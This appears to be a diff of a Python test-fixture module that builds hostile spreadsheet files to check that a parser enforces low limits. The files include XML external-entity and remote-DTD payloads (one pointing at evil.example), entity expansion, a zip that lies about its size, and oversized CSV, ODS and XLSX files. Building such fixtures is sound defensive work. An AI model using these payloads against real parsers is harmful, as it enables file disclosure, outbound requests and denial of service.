@@ -1,14 +1,12 @@
 """Files made to exhaust, to reach out or to deceive a reader, each of them small: the limits are low instead."""
 
-from __future__ import annotations
-
-import io
 import os
-import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+from helpers.files.archive import zipped
 from helpers.sheets.files.unreadable import Limits
+from spreadsheets import ods
 
 LOW = Limits(
     file_bytes=20_000,
@@ -30,15 +28,6 @@ EXTERNAL = "<!DOCTYPE b [<!ENTITY x SYSTEM 'file:///nowhere/x'>]>"
 REMOTE = "<!DOCTYPE b [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]>"
 
 
-def zipped(members: dict[str, bytes | str], level: int = 9) -> bytes:
-    """A zip of these members."""
-    stream = io.BytesIO()
-    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
-        for name, content in members.items():
-            archive.writestr(name, content)
-    return stream.getvalue()
-
-
 def xlsx(rows: str, doctype: str = "", shared: str = "", **more: str) -> bytes:
     """The smallest xlsx with these rows."""
     types = "http://schemas.openxmlformats.org/package/2006/content-types"
@@ -50,33 +39,19 @@ def xlsx(rows: str, doctype: str = "", shared: str = "", **more: str) -> bytes:
         if shared
         else ""
     )
-    return zipped(
-        {
-            "[Content_Types].xml": f'{HEAD}<Types xmlns="{types}"><Default Extension="xml" ContentType="application/xml"/>'
-            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-            f'<Override PartName="/xl/workbook.xml" ContentType="{ml}.sheet.main+xml"/>'
-            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ml}.worksheet+xml"/></Types>',
-            "_rels/.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
-            "xl/workbook.xml": f'{HEAD}{doctype}<workbook {MAIN} {RELATED}><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
-            "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>{strings}</Relationships>',
-            "xl/worksheets/sheet1.xml": f"{HEAD}{doctype}<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>",
-            **({"xl/sharedStrings.xml": f"{HEAD}{doctype}<sst {MAIN}>{shared}</sst>"} if shared else {}),
-            **more,
-        }
-    )
-
-
-def ods(rows: str, doctype: str = "") -> bytes:
-    """The smallest ods with these rows."""
-    names = "urn:oasis:names:tc:opendocument:xmlns"
-    return zipped(
-        {
-            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
-            "content.xml": f'{HEAD}{doctype}<office:document-content xmlns:office="{names}:office:1.0" xmlns:table="{names}:table:1.0"'
-            f' xmlns:text="{names}:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:spreadsheet>'
-            f'<table:table table:name="s">{rows}</table:table></office:spreadsheet></office:body></office:document-content>',
-        }
-    )
+    parts = {
+        "[Content_Types].xml": f'{HEAD}<Types xmlns="{types}"><Default Extension="xml" ContentType="application/xml"/>'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        f'<Override PartName="/xl/workbook.xml" ContentType="{ml}.sheet.main+xml"/>'
+        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ml}.worksheet+xml"/></Types>',
+        "_rels/.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+        "xl/workbook.xml": f'{HEAD}{doctype}<workbook {MAIN} {RELATED}><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
+        "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>{strings}</Relationships>',
+        "xl/worksheets/sheet1.xml": f"{HEAD}{doctype}<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>",
+        **({"xl/sharedStrings.xml": f"{HEAD}{doctype}<sst {MAIN}>{shared}</sst>"} if shared else {}),
+        **more,
+    }
+    return zipped({name: part.encode() for name, part in parts.items()})
 
 
 def inline(at: str, text: str) -> str:
@@ -113,19 +88,19 @@ FILES: dict[str, Callable[[], bytes]] = {
     "zip_that_lies_about_a_size.xlsx": understated,
     "entities.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "&a1;")}</row>', ENTITIES),
     "entities_in_strings.xlsx": lambda: xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', ENTITIES, "<si><t>&a1;</t></si>"),
-    "entities.ods": lambda: ods("<table:table-row/>", ENTITIES),
+    "entities.ods": lambda: ods("<table:table-row/>", before=ENTITIES),
     "external_entity.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "&x;")}</row>', EXTERNAL),
-    "external_entity.ods": lambda: ods("<table:table-row><table:table-cell><text:p>&x;</text:p></table:table-cell></table:table-row>", EXTERNAL),
+    "external_entity.ods": lambda: ods("<table:table-row><table:table-cell><text:p>&x;</text:p></table:table-cell></table:table-row>", before=EXTERNAL),
     "remote_dtd.xlsx": lambda: xlsx("", REMOTE),
-    "remote_dtd.ods": lambda: ods("", REMOTE),
+    "remote_dtd.ods": lambda: ods("", before=REMOTE),
     "many_bytes.csv": lambda: "番号,実施状況\n".encode() + b"1,x\n" * 5_000,
     "many_rows.csv": lambda: "番号,実施状況\n".encode() + b"1\n" * 50,
     "many_empty_rows.csv": lambda: b"\n" * 51,
     "many_columns.csv": lambda: b"a," * 20,
-    "many_rows.ods": lambda: ods(repeated(51, 1)),
+    "many_rows.ods": lambda: ods(repeated(51, 1), name="s"),
     "many_rows.xlsx": lambda: xlsx("".join(number(f"A{n}") for n in range(1, 52))),
-    "cells_repeated.ods": lambda: ods(repeated(16, 19)),
-    "many_columns.ods": lambda: ods(repeated(1, 21)),
+    "cells_repeated.ods": lambda: ods(repeated(16, 19), name="s"),
+    "many_columns.ods": lambda: ods(repeated(1, 21), name="s"),
     "cell_far_below.xlsx": lambda: xlsx(number("A1") + number("A51")),
     "cell_far_right.xlsx": lambda: xlsx(number("A1") + number("U2")),
     "long_cell.csv": lambda: "番号,実施状況\n1,".encode() + b"x" * 501 + b"\n",
